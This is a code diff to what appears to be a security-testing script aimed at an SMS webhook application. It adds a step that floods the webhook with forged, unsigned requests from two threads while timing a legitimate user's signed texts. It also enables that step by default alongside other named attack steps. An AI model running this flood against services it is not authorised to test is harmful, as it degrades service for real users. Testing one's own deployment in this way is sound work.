@@ -14,8 +14,10 @@ import argparse
 import csv
 import re
 import sqlite3
+import statistics
 import subprocess
 import sys
+import threading
 import time
 import uuid
 from pathlib import Path
@@ -99,6 +101,39 @@ class Attack:
         time.sleep(2)
         rows_after = scalar(self.instance, "SELECT count(*) FROM log_entries")
         print(f"4,000 short unsigned requests: answers {statuses}; log entries +{rows_after - rows}")
+
+    def f1b_chair_latency(self, texts: int = 200) -> None:
+        print("\n## 1b. a chair's webhook while two attackers send unsigned requests")
+        chair = self.chairs[2]["phones"].split(";")[0]
+
+        def chair_median() -> float:
+            took = []
+            for _ in range(texts):
+                form, sig = self.signed("/twilio/sms", self.sms(chair, "HELP"))
+                t = time.perf_counter()
+                self.http.post(self.base + "/twilio/sms", data=form, headers={"X-Twilio-Signature": sig})
+                took.append((time.perf_counter() - t) * 1000)
+                time.sleep(0.01)
+            return statistics.median(took)
+
+        quiet = chair_median()
+        stop, sent = threading.Event(), [0]
+
+        def forge() -> None:
+            s = requests.Session()
+            while not stop.is_set():
+                s.post(self.base + "/twilio/sms", data={"MessageSid": "SM" + uuid.uuid4().hex,
+                                                         "From": "+15550001111", "Body": "x"})
+                sent[0] += 1
+        threads = [threading.Thread(target=forge) for _ in range(2)]
+        for t in threads:
+            t.start()
+        busy = chair_median()
+        stop.set()
+        for t in threads:
+            t.join()
+        print(f"chair's signed text, median answer: {quiet:.1f} ms quiet, {busy:.1f} ms while "
+              f"{sent[0]:,} unsigned requests arrived")
 
     def f3_folded_sid(self) -> None:
         print("\n## 3. a captured signed text replayed with the next field folded into MessageSid")
@@ -232,7 +267,7 @@ def main() -> int:
     ap.add_argument("--account", default="AC" + "0" * 32)
     ap.add_argument("--user", default="staff")
     ap.add_argument("--password", default="staff-demo-1")
-    ap.add_argument("--only", default="1,3,4,5,6,7,9,10")
+    ap.add_argument("--only", default="1,1b,3,4,5,6,7,9,10")
     args = ap.parse_args()
     a = Attack(args.base, args.instance, args.token, args.account)
     only = set(args.only.split(","))
@@ -240,7 +275,8 @@ def main() -> int:
              ("5", lambda: a.f5_open_redirect(args.user, args.password)),
              ("9", lambda: a.f9_sessions(args.user, args.password)),
              ("4", lambda: a.f4_forwarded_for(args.user, args.password)),
-             ("6", lambda: config_findings(args.python)), ("1", a.f1_forged_flood)]
+             ("6", lambda: config_findings(args.python)), ("1", a.f1_forged_flood),
+             ("1b", a.f1b_chair_latency)]
     for key, step in steps:
         if key in only:
             step()
